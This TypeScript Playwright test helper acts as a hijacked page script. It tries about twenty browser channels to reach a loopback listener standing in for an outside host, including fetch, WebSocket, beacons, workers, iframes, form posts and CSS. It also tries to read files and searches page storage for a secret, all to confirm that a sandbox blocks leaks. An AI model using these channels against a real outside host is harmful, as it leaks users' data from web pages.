/** What a script in a page that was taken over tries. Everything goes to loopback: a listener there stands for the outside world. */
import type { Page } from 'playwright-core';

/** Lets the page try every way to a listener that keeps it where it is. @returns ways that said they had got through */
export function tryToReach(page: Page, port: number): Promise<readonly string[]> {
  return page.evaluate(async (target) => {
    const address = (way: string) => `http://127.0.0.1:${target}/${way}`;
    const through: string[] = [];
    const attempt = async (way: string, run: () => unknown) => {
      try {
        await Promise.race([run(), new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 1500))]);
        through.push(way);
      } catch {
        // Refused, as it should be.
      }
    };
    const loads = (tag: string, fields: Record<string, string>) =>
      new Promise((resolve, reject) => {
        const element = document.createElement(tag);
        element.onload = resolve;
        element.onerror = reject;
        for (const [name, value] of Object.entries(fields)) element.setAttribute(name, value);
        document.body.append(element);
      });
    const socket = (made: { onopen: unknown; onerror: unknown }) =>
      new Promise((resolve, reject) => {
        made.onopen = resolve;
        made.onerror = reject;
      });
    await Promise.all([
      attempt('fetch', () => fetch(address('fetch'), { mode: 'no-cors' })),
      attempt('fetch by name', () => fetch(address('name').replace('127.0.0.1', 'localhost'), { mode: 'no-cors' })),
      attempt('websocket', () => socket(new WebSocket(address('websocket').replace('http', 'ws')))),
      attempt('events', () => socket(new EventSource(address('events')))),
      attempt('image', () => loads('img', { src: address('image') })),
      attempt('script', () => loads('script', { src: address('script') })),
      attempt('style', () => loads('link', { rel: 'stylesheet', href: address('style') })),
      attempt('prefetch', () => loads('link', { rel: 'prefetch', href: address('prefetch') })),
      attempt('preload', () => loads('link', { rel: 'preload', as: 'fetch', href: address('preload') })),
      attempt('media', () => loads('video', { src: address('media') })),
      attempt('module', () => import(/* @vite-ignore */ address('module'))),
      attempt('worker from a blob', () => socket(new Worker(URL.createObjectURL(new Blob([`fetch('${address('worker')}').then(() => postMessage(1))`]))) as never)),
      attempt('service worker', () => navigator.serviceWorker.register(address('service'))),
      attempt('font', () => new FontFace('x', `url(${address('font')})`).load()),
    ]);
    // These tell nobody whether they got through; the listener does.
    navigator.sendBeacon(address('beacon'), 'x');
    for (const [tag, field] of [['iframe', 'src'], ['embed', 'src'], ['object', 'data']] as const) {
      const frame = document.createElement(tag);
      frame.setAttribute(field, address(tag));
      document.body.append(frame);
    }
    const hint = Object.assign(document.createElement('link'), { rel: 'preconnect', href: address('') });
    const form = Object.assign(document.createElement('form'), { action: address('form'), method: 'post' });
    document.head.append(hint, Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: address('') }));
    document.body.append(form);
    form.submit();
    document.body.style.backgroundImage = `url(${address('background')})`;
    await new Promise((resolve) => setTimeout(resolve, 800));
    return through;
  }, port);
}

/** @returns answers that are no refusal: the texts of files, by their addresses */
export function tryToRead(page: Page, addresses: readonly string[]): Promise<Readonly<Record<string, string>>> {
  return page.evaluate(async (tried) => {
    const read: Record<string, string> = {};
    for (const address of tried) {
      try {
        const answer = await fetch(address);
        if (answer.ok) read[address] = (await answer.text()).slice(0, 200);
      } catch {
        // Refused, as it should be.
      }
    }
    return read;
  }, addresses);
}

/** @returns where in the page a text stands that nobody should find any more */
export function whereStands(page: Page, text: string): Promise<readonly string[]> {
  return page.evaluate(async (looked) => {
    const places: Record<string, () => unknown> = {
      document: () => document.documentElement.outerHTML,
      fields: () => [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map((field) => field.value),
      address: () => location.href,
      cookies: () => document.cookie,
      history: () => history.state as unknown,
      'local storage': () => ({ ...localStorage }),
      'session storage': () => ({ ...sessionStorage }),
      timeline: () => performance.getEntries().map((entry) => entry.toJSON() as unknown),
      globals: () => Object.getOwnPropertyNames(globalThis).flatMap((name) => (typeof (globalThis as Record<string, unknown>)[name] === 'string' ? [(globalThis as Record<string, unknown>)[name]] : [])),
    };
    const found = Object.entries(places).flatMap(([place, read]) => ((JSON.stringify(read()) ?? '').includes(looked) ? [place] : []));
    const databases = await indexedDB.databases();
    return databases.length === 0 ? found : [...found, 'databases'];
  }, text);
}
